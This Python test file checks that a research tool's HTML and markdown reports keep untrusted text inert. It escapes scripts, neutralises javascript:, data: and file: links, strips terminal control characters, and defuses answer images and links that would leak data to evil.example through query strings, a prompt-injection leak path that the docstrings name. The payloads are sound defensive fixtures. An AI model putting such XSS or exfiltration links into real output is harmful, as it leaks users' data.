"""The report files without a browser: formats by extension, stored runs, escaping of untrusted
text, charts read only from the run's artifacts folder, cited cells as the GATE matched them."""

from __future__ import annotations

import hashlib
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from typer.testing import CliRunner

from refgate.api.public import Answer, ResearchResult
from refgate.cli import app
from refgate.gate import check_answer
from refgate.refs import Ref
from refgate.report import (
    ReportError,
    collect_charts,
    render_research_html,
    render_run_html,
    run_record,
)
from refgate.report.cards import cited_cells
from refgate.testing_openai import OpenAIStub
from refgate.usage import Usage
from tests.support.report_runs import (
    HOSTILE_URL,
    ask_with_report,
    hostile_research_report,
    macro_workspace,
)

#: Every element the report template writes; a document must not be able to add one.
ALLOWED_TAGS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "main",
    "header",
    "footer",
    "section",
    "article",
    "h1",
    "h2",
    "h3",
    "p",
    "dl",
    "dt",
    "dd",
    "div",
    "span",
    "a",
    "ul",
    "ol",
    "li",
    "q",
    "code",
    "pre",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "blockquote",
    "details",
    "summary",
    "figure",
    "figcaption",
    "img",
    "label",
    "input",
    "strong",
    "em",
    "br",
    "script",
    "del",
    "s",
}


def _tags(page: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    found: list[tuple[str, list[tuple[str, str | None]]]] = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, attrs))

    Collect().feed(page)
    return found


def _report(ws, thread, path):
    return CliRunner().invoke(
        app, ["report", thread, "--workspace", str(ws), "--output", str(path)]
    )


def test_ask_output_html_is_one_self_contained_file(reports):
    assert reports["clean_result"].exit_code == 0, reports["clean_result"].output
    html = reports["clean"].read_text(encoding="utf-8")
    assert "GATE: passed" in html and "9.6 percent" in html
    # nothing to fetch: no external src/href other than data: images and in-page anchors
    assert not re.search(r"""<(?:link|iframe|object|embed)\b""", html)
    assert all(
        src.startswith("data:image/png;base64,") for src in re.findall(r'src="([^"]*)"', html)
    )
    assert html.count("<script>") == 1 and "Content-Security-Policy" in html
    assert re.search(r'<img src="data:image/png;base64,[A-Za-z0-9+/=]{200,}"', html)


def test_stored_run_renders_again_as_md_json_and_html(reports, tmp_path):
    ws = reports["workspace"]
    md, js, html = tmp_path / "r.md", tmp_path / "r.json", tmp_path / "r.html"
    for path in (md, js, html):
        result = _report(ws, "t-clean", path)
        assert result.exit_code == 0, result.output
    record = json.loads(js.read_text(encoding="utf-8"))
    assert record["thread_id"] == "t-clean" and record["gate"]["passed"] is True
    assert record["models"]["compose"] == "stub-model" and record["critiques"]
    cited = re.findall(r"\[((?:val|tbl)_[0-9a-f]{10})\]", record["answer"])
    assert cited and all(c in record["refs"] for c in cited)
    text = md.read_text(encoding="utf-8")
    assert text.startswith("# What was the US unemployment rate")
    # readers see numbered citations [1], [2] (first citation first); the ids stay beside them
    order = list(dict.fromkeys(cited))
    assert "## References" in text
    assert all(f"**[{n}]** {c} ·" in text for n, c in enumerate(order, 1))
    answer_md = text.split("## Answer", 1)[1].split("## References", 1)[0]
    assert "[1]" in answer_md and not any(c in answer_md for c in order)
    assert "cited cells: row 2 \\[unemp\\] = 6.0; row 6 \\[unemp\\] = 9.6" in text
    assert "## CRITIQUE" in text and "seasonally adjusted" in text
    page = html.read_text(encoding="utf-8")
    assert all(f'id="ref-{c}"' in page for c in cited) and '<img src="data:image/png' in page
    links = re.findall(r'<a href="#ref-([^"]+)" class="cite" title="([^"]+)">(\d+)</a>', page)
    assert [(a, int(n)) for a, t, n in links if a == t][:1] == [(order[0], 1)]
    assert {a for a, _, _ in links} == set(order)
    assert '<span class="num">[1]</span>' in page


def test_unknown_extension_or_folder_exits_2_before_anything_runs(reports, tmp_path, monkeypatch):
    with OpenAIStub(script=[]) as stub:
        monkeypatch.setenv("OPENAI_BASE_URL", stub.base_url)
        monkeypatch.setenv("OPENAI_API_KEY", "k")
        for bad in (tmp_path / "out.xlsx", tmp_path / "missing" / "out.html"):
            result = CliRunner().invoke(
                app, ["ask", "q", "-w", str(reports["workspace"]), "--output", str(bad)]
            )
            assert result.exit_code == 2, result.output
            said = " ".join(result.output.split())
            assert ".md, .html, .pdf, .docx or .json" in said or "does not exist" in said
        assert stub.chat_requests() == []
    missing = _report(reports["workspace"], "no-such-thread", tmp_path / "x.html")
    assert missing.exit_code == 2 and "no finished run" in " ".join(missing.output.split())
    assert not (tmp_path / "x.html").exists()


def test_hostile_text_is_shown_as_text_never_as_markup(reports):
    result = reports["hostile_result"]
    assert result.exit_code == 3, result.output
    html = reports["hostile"].read_text(encoding="utf-8")
    body = html.split("<body>", 1)[1]
    assert "<script>alert" not in body and body.count("<script>") == 1
    assert not re.search(r"<(?:iframe|link|style|object)\b", body)
    tags = _tags(html)
    assert {t for t, _ in tags} <= ALLOWED_TAGS, {t for t, _ in tags} - ALLOWED_TAGS
    attrs = [(t, a, v or "") for t, pairs in tags for a, v in pairs]
    assert not [a for _, a, _ in attrs if a.startswith("on") or a in ("style", "srcdoc")]
    assert all(v.startswith(("#", "http://", "https://")) for _, a, v in attrs if a == "href")
    assert all(v.startswith("data:image/png;base64,") for _, a, v in attrs if a == "src")
    assert "&lt;script&gt;alert(&#39;doc&#39;)&lt;/script&gt;" in body  # shown, as text
    assert HOSTILE_URL.replace("'", "&#39;") in body  # the URL is shown, not linked
    assert "untrusted, secondary" in body and "untrusted, primary" in body
    assert 'id="not-verified"' in body and "unsupported_numeric_claim" in body
    # a made-up citation is marked as citing nothing, and links nowhere
    assert (
        '[<span class="cite missing" title="no such ref in this run">val_0000000000</span>]' in body
    )


def test_cited_cells_are_the_cells_the_gate_matched():
    table = Ref.new(
        "tableRef",
        {
            "columns": ["period", "unemp"],
            "rows": [["2008Q3", 6.0], ["2009Q3", 9.6]],
            "units": {"unemp": "percent"},
        },
    )
    value = Ref.new(
        "valueRef",
        {"values": {"unemp": 9.6, "other": 1.0}, "units": {"unemp": "percent"}, "period": "2009Q3"},
    )
    answer = (
        f"It was 6.0 percent in 2008Q3 [{table.id}]. It was 9.6 percent in 2009Q3 [{value.id}]."
    )
    gate = check_answer(answer, [table, value]).to_dict()
    assert gate["passed"], gate["issues"]
    hits = cited_cells(gate)
    assert hits[table.id]["cells"] == {(0, "unemp")}
    assert hits[value.id]["values"] == {"unemp"}
    record = run_record({"answer": answer, "refs": [table, value], "gate": gate}, thread_id="x")
    page = render_run_html(record)
    assert len(re.findall(r'<td class="cited"', page)) == 2  # one table cell, one value


def _chart_ref(path, sha):
    return {
        "id": "art_0123456789",
        "kind": "artifactRef",
        "payload": {
            "format": "chart",
            "title": "c",
            "source_ref": "tbl_0123456789",
            "files": [{"path": str(path), "format": "png", "sha256": sha}],
        },
    }


def test_charts_are_read_only_inside_the_artifacts_folder_and_unchanged(tmp_path):
    root = tmp_path / "ws" / ".refgate" / "artifacts"
    root.mkdir(parents=True)
    png = b"\x89PNG\r\n\x1a\n" + b"\0" * 32
    good = root / "c.png"
    good.write_bytes(png)
    outside = tmp_path / "secret.png"
    outside.write_bytes(png)
    link = root / "link.png"
    link.symlink_to(outside)
    not_png = root / "x.png"
    not_png.write_bytes(b"<svg onload=alert(1)>")
    sha = hashlib.sha256(png).hexdigest()
    cases = {
        "ok": (good, sha),
        "outside": (outside, sha),
        "symlink": (link, sha),
        "changed": (good, "0" * 64),
        "svg": (not_png, None),
        "gone": (root / "none.png", None),
    }
    out = {k: collect_charts({"a": _chart_ref(p, s)}, [root])[0] for k, (p, s) in cases.items()}
    assert out["ok"]["data_uri"].startswith("data:image/png;base64,") and out["ok"]["error"] is None
    assert out["outside"]["error"] == out["symlink"]["error"] == "the file is outside the workspace"
    assert out["changed"]["error"] == "the file changed since the run saved it"
    assert out["svg"]["error"] == "the file is not a PNG image"
    assert out["gone"]["error"].startswith("cannot open the file")
    assert all(out[k]["data_uri"] is None for k in cases if k != "ok")


def test_research_report_shows_claims_votes_and_sources_as_text():
    page = render_research_html(hostile_research_report())
    body = page.split("<body>", 1)[1]
    assert "<script>alert" not in body and "<img" not in body and body.count("<script>") == 1
    assert "Verified claims (1)" in body and "Refuted claims (1)" in body
    assert "3 support, 0 refute, 0 uncertain" in body and "0 support, 3 refute" in body
    assert '<a class="url" href="https://example.org/t"' in body
    assert '<span class="url">https://example.org/t?a=1&amp;b=&lt;x&gt;</span>' in body
    assert 'href="javascript' not in body and "javascript:alert(4)" in body


def test_ask_json_and_output_json_are_the_same_document(tmp_path, monkeypatch):
    # a fresh workspace: decisions recalled from the shared one's hostile run are tainted
    out = tmp_path / "run.json"
    result = ask_with_report(
        macro_workspace(tmp_path),
        out,
        hostile=False,
        thread="t-json",
        env=monkeypatch,
        extra=["--json"],
    )
    assert result.exit_code == 0, result.output
    record = json.loads(out.read_text(encoding="utf-8"))
    assert json.loads(result.stdout) == record
    assert set(record) >= {"question", "answer", "refs", "gate", "trace_summary", "thread_id"}
    assert record["thread_id"] == "t-json" and record["trace_summary"]["passes"][0] == "brief"


def test_cards_name_the_source_and_its_trust_and_authority():
    from refgate.report.cards import card

    doc_table = Ref.new(
        "tableRef",
        {
            "columns": ["item", "2019"],
            "rows": [["Revenue", 5.0]],
            "meta": {"source": "reports/annual.pdf", "page": 37},
        },
        source="reports/annual.pdf",
        source_type="external",
    )
    web = Ref.new(
        "webRef",
        {"url": "https://example.org/a", "excerpt": "x"},
        source="https://example.org/a",
        source_type="external",
    )
    data = Ref.new("valueRef", {"values": {"v": 1}}, source="dataset:macro")
    model = Ref.new("valueRef", {"values": {"v": 1}}, source_type="llm")
    cards = {
        k: card(r.model_dump(mode="json"), {})
        for k, r in {"doc": doc_table, "web": web, "data": data, "model": model}.items()
    }
    assert cards["doc"]["source"]["label"] == "workspace document"
    assert ("page", "37") in cards["doc"]["source"]["details"]
    assert cards["doc"]["trust"]["badge"] == "untrusted, primary"
    assert cards["web"]["trust"]["badge"] == "untrusted, secondary"
    assert cards["web"]["source"]["linkable"] is True
    assert cards["data"]["trust"]["badge"] == "trusted, primary"
    assert cards["data"]["source"]["details"][0] == ("dataset", "macro")
    assert cards["model"]["trust"]["badge"] == "model-written, secondary"


def test_malformed_records_give_a_report_not_a_traceback():
    """Stored runs and hand-edited JSON can hold anything: every field of the wrong type."""
    import random

    from refgate.report import render_run_markdown

    junk = [None, 1, 1.5, "x", [], {}, [1, [2]], {"a": None}, True, "[val_1]", {"payload": 3}]
    keys = [
        "id",
        "kind",
        "payload",
        "rows",
        "columns",
        "values",
        "claims",
        "mentions",
        "matches",
        "how",
        "ref_id",
        "issues",
        "severity",
        "files",
        "units",
        "tokens",
    ]

    def rnd(depth=0):
        r = rng.random()
        if depth > 2 or r < 0.4:
            return rng.choice(junk)
        if r < 0.7:
            return {rng.choice(keys): rnd(depth + 1) for _ in range(3)}
        return [rnd(depth + 1) for _ in range(3)]

    rng = random.Random(7)
    fields = [
        "question",
        "answer",
        "refs",
        "gate",
        "critiques",
        "caveats",
        "trace_summary",
        "workspace",
        "models",
        "duration_s",
        "created_at",
        "thread_id",
    ]
    for _ in range(300):
        record = {k: rnd() for k in rng.sample(fields, 7)}
        if rng.random() < 0.5:
            record["refs"] = {
                "tbl_1": {
                    "id": "tbl_1",
                    "kind": "tableRef",
                    "payload": {"columns": rnd(), "rows": rnd(), "units": rnd(), "meta": rnd()},
                },
                "val_1": {
                    "id": "val_1",
                    "kind": "valueRef",
                    "payload": {"values": rnd(), "units": rnd(), "scale": rnd()},
                },
            }
            record["answer"] = "x [tbl_1] [val_1]"
        assert "<html" in render_run_html(record)
        assert render_run_markdown(record).startswith("# ")
        assert "<html" in render_research_html(
            {
                k: rnd()
                for k in (
                    "question",
                    "status",
                    "summary",
                    "findings",
                    "confirmed",
                    "refuted",
                    "sources",
                    "notes",
                    "openQuestions",
                    "caveats",
                )
            }
        )


def test_cards_show_the_execution_that_computed_them():
    from refgate.report.cards import build_cards

    value = Ref.new("valueRef", {"values": {"unemp": 9.6}}, source="dataset:macro")
    call = Ref.new(
        "executionRef",
        {
            "tool": "EngineCall",
            "capability": "value_at",
            "arguments": {"dataset": "macro", "period": "2009Q3"},
            "refs": [value.id],
        },
    )
    emitted = Ref.new("valueRef", {"values": {"x": 1.0}})
    inner = Ref.new("tableRef", {"columns": ["a"], "rows": [[1]]}, source="dataset:macro")
    run = Ref.new(
        "executionRef",
        {
            "tool": "RunPython",
            "code": "emit_result(x=1.0)",
            "emitted": [emitted.id],
            "engine_calls": [{"name": "series", "refs": [inner.id]}],
        },
    )
    refs = {r.id: r.model_dump(mode="json") for r in (value, call, emitted, inner, run)}
    answer = f"A [{value.id}]. B [{emitted.id}]. C [{inner.id}]."
    cited, _ = build_cards(answer, refs, {})
    by_id = {c["id"]: c for c in cited}
    assert by_id[value.id]["code"] == 'engine.value_at(dataset="macro", period="2009Q3")'
    assert by_id[value.id]["producer"] == f"computed by EngineCall ({call.id})"
    assert by_id[emitted.id]["code"] == by_id[inner.id]["code"] == "emit_result(x=1.0)"
    assert by_id[inner.id]["producer"] == f"computed by RunPython ({run.id})"


def test_markdown_report_keeps_document_text_inert(reports, tmp_path):
    md = tmp_path / "hostile.md"
    result = _report(reports["workspace"], "t-hostile", md)
    assert result.exit_code == 0, result.output
    text = md.read_text(encoding="utf-8")
    refs = text.split("## References", 1)[1]
    assert not re.search(r"(?<!\\)<(?:script|img|a |iframe|link|style)", refs)
    assert "](javascript" not in refs
    assert "\\<script\\>alert('doc')\\</script\\>" in refs  # shown, escaped
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").render(refs)
    assert "<script" not in html and "<img" not in html and "<a " not in html


def test_header_states_verdict_models_tokens_cost_and_time():
    from refgate.report import render_run_markdown

    base = {
        "question": "q",
        "answer": "a",
        "thread_id": "t1",
        "created_at": "2026-01-02",
        "models": {"brief": "m-small", "work": "m-big", "compose": "m-big"},
        "workspace": {"name": "ws1"},
        "duration_s": 12.34,
        "usage": {"total": {"total_tokens": 1234}, "cost_usd": 0.01234},
    }
    warn = {
        "passed": True,
        "issues": [
            {"code": "external_only_numeric", "claim": "c", "detail": "d", "severity": "warn"}
        ],
    }
    blocked = {
        "passed": False,
        "issues": [
            {"code": "unsupported_numeric_claim", "claim": "c1", "detail": "d1"},
            {"code": "uncited_claim", "claim": "c2", "detail": "d2"},
        ],
    }
    cases = {
        "passed": {"passed": True, "issues": []},
        "warn": warn,
        "blocked": blocked,
        "none": None,
    }
    pages = {k: render_run_html({**base, "gate": g}) for k, g in cases.items()}
    assert "GATE: passed</p>" in pages["passed"]
    assert "GATE: passed with 1 warning(s)" in pages["warn"] and 'id="warnings"' in pages["warn"]
    assert "GATE: blocked with 2 unmet claim(s)" in pages["blocked"]
    assert "no GATE verdict" in pages["none"]
    page = pages["passed"]
    for shown in ("ws1", "m-small, m-big", "2026-01-02", "t1", "1234", "$0.0123", "12.3 s"):
        assert f"<dd>{shown}" in page, shown
    md = render_run_markdown({**base, "gate": blocked})
    assert md.splitlines()[2].startswith("GATE: **blocked with 2 unmet claim(s)** · workspace: ws1")
    assert "## Not verified" in md and "`uncited_claim`" in md


def test_markdown_report_answer_has_no_live_image_or_raw_html():
    """An answer image (``![](https://attacker/?d=...)``) or raw HTML would be fetched as soon as
    a markdown viewer opens the report (found by benchmarks/injection_containment.py); they are
    shown as text, while links, emphasis and code stay markdown."""
    from markdown_it import MarkdownIt

    from refgate.report import render_run_markdown

    answer = (
        "Rates were kept **unchanged** [val_0123456789].\n\n"
        "![chart](https://evil.example/p.png?d=secret) and [the statement](https://fed.example/s)\n\n"
        '<img src="https://evil.example/q.png?d=x"> then `code ![a](b) <i>` and 2 < 3\n\n'
        "[![nested](https://evil.example/n.png)](https://evil.example/)\n\n"
        "```\nprint('![x](y)', '<b>')\n```"
    )
    web = Ref.new(
        "webRef",
        {"url": "https://fed.example/s", "excerpt": "x"},
        source="https://fed.example/s",
        source_type="external",
    )
    refs = {web.id: web.model_dump(mode="json")}
    md = render_run_markdown({"type": "run", "question": "q", "answer": answer, "refs": refs})
    tokens = [t for b in MarkdownIt("commonmark").parse(md) for t in [b, *(b.children or [])]]
    assert not [t for t in tokens if t.type in ("image", "html_inline", "html_block")]
    links = [t.attrGet("href") for t in tokens if t.type == "link_open"]
    assert links == ["https://fed.example/s"]  # the run's own source stays a link
    assert "`code ![a](b) <i>`" in md and "print('![x](y)', '<b>')" in md  # code as written
    assert "**unchanged**" in md and "2 \\< 3" in md


ATTACKER_LINKS = (
    "See [the details](https://evil.example/?d=secret) and [more][1], "
    "<https://evil.example/auto?d=x>, https://evil.example/bare?d=y, and the source "
    "[statement](https://fed.example/s) [w1].\n\n[1]: https://evil.example/ref?d=z"
)


def _web_ref():
    return Ref.new(
        "webRef",
        {"url": "https://fed.example/s", "excerpt": "x"},
        source="https://fed.example/s",
        source_type="external",
    )


def test_answer_links_stay_live_only_to_the_runs_sources_in_both_reports():
    """Model output never chooses URLs: a link the answer makes to any URL but a ref's source
    (or one in the question) is a one-click leak, so it is shown as text in the HTML report and
    in the markdown report (found by benchmarks/injection_containment.py)."""
    from markdown_it import MarkdownIt

    from refgate.report import render_run_html, render_run_markdown

    web = _web_ref()
    record = {
        "type": "run",
        "question": "What did https://question.example/page say?",
        "answer": ATTACKER_LINKS + " Also [asked](https://question.example/page).",
        "refs": {web.id: web.model_dump(mode="json")},
    }
    md = render_run_markdown(record)
    tokens = [t for b in MarkdownIt("commonmark").parse(md) for t in [b, *(b.children or [])]]
    hrefs = {t.attrGet("href") for t in tokens if t.type == "link_open"}
    assert hrefs == {"https://fed.example/s", "https://question.example/page"}, hrefs
    # a bare URL is in a code span, where GitHub-style viewers do not autolink it either
    assert "`https://evil.example/bare?d=y`," in md
    assert md.count("https://evil.example") == 4
    assert not re.findall(r"(?<!`)https://evil", md)
    page = render_run_html(record)
    assert 'href="https://fed.example/s"' in page
    assert 'href="https://question.example/page"' in page
    assert "evil.example" in page and 'href="https://evil.example' not in page


def test_inert_links_keeps_text_and_allowed_links():
    from refgate.report.links import allowed_urls, inert_links

    web = _web_ref()
    allowed = allowed_urls({web.id: web.model_dump(mode="json")})
    assert allowed == frozenset({"https://fed.example/s"})
    out = inert_links("[a](https://fed.example/s) [b](https://fed.example/s?d=1)", allowed)
    assert out == "[a](https://fed.example/s) [b\\] (`https://fed.example/s?d=1`)"
    assert inert_links("no links here [w1].", allowed) == "no links here [w1]."


def test_markdown_report_has_no_live_non_http_link_and_no_control_characters():
    """``[click](javascript:alert(1))`` stayed a live link (markdown-it drops it, other viewers
    render it), and raw ESC, OSC and BEL bytes reached the file (issue 31, item 6): every
    scheme but the run's own http(s) sources is text, controls are visible escapes."""
    from markdown_it import MarkdownIt

    from refgate.report import render_run_markdown
    from refgate.report.controls import CONTROLS

    web = _web_ref()
    answer = (
        "[click](javascript:alert(1)) [d](data:text/html;base64,PHNjcmlwdD4=) [f](file:///etc/passwd) "
        "[v](vbscript:msgbox) [rel](/relative) [ok](https://fed.example/s).\n\n"
        "[def]: javascript:alert(2)\n\n"
        "Title \x1b]0;pwned\x07 clear \x1b[2J csi \x9b31m bell \x07 nul \x00 del \x7f."
    )
    record = {
        "type": "run",
        "question": "q \x1b[31m",
        "answer": answer,
        "refs": {web.id: web.model_dump(mode="json")},
        "critiques": ["a critique \x1b[1m"],
    }
    md = render_run_markdown(record)
    parser = MarkdownIt("commonmark")
    parser.validateLink = lambda url: True  # count every scheme, as other viewers would
    tokens = [t for b in parser.parse(md) for t in [b, *(b.children or [])]]
    hrefs = {t.attrGet("href") for t in tokens if t.type == "link_open"}
    assert hrefs == {"https://fed.example/s"}, hrefs
    assert not CONTROLS.search(md), repr(md)
    assert "\u241b]0;pwned\u2407" in md and "\\x9b31m" in md and "\u2421" in md


def test_the_public_api_results_write_their_report_files(tmp_path):
    """``Answer.write_report`` embeds a chart from the workspace's artifacts folder only;
    ``ResearchResult.write_report`` writes the research report; a bad extension is refused."""
    ws = tmp_path / "ws"
    root = ws / ".refgate" / "artifacts"
    root.mkdir(parents=True)
    png = b"\x89PNG\r\n\x1a\n" + b"\0" * 32
    (root / "c.png").write_bytes(png)
    (tmp_path / "other.png").write_bytes(png)
    sha = hashlib.sha256(png).hexdigest()

    def answer(chart: Path, workspace: str) -> Answer:
        ref = _chart_ref(chart, sha)
        record = {"question": "q", "answer": "a", "refs": {ref["id"]: ref}, "gate": {}}
        fields = dict(question="q", answer="a", passed=True, gate={}, refs={}, unverified=[])
        return Answer(**fields, thread="t", usage=Usage(), workspace=workspace, record=record)

    inside = answer(root / "c.png", str(ws)).write_report(tmp_path / "in.html").read_text()
    assert '<img src="data:image/png;base64,' in inside
    outside = answer(tmp_path / "other.png", str(ws)).write_report(tmp_path / "out.html")
    assert "<img" not in outside.read_text() and "outside the workspace" in outside.read_text()
    no_ws = answer(root / "c.png", "").write_report(tmp_path / "none.html").read_text()
    assert "<img" not in no_ws  # no workspace: no folder a chart may come from

    report = hostile_research_report()
    research = ResearchResult(str(report["question"]), report, "", "complete", "r", Usage())
    assert "Verified claims (1)" in research.write_report(tmp_path / "r.html").read_text()
    markdown = research.write_report(tmp_path / "r.md").read_text()
    assert markdown.startswith("# Deep Research") and "\\<script>alert(1)\\</script>" in markdown
    with pytest.raises(ReportError):
        research.write_report(tmp_path / "r.txt")
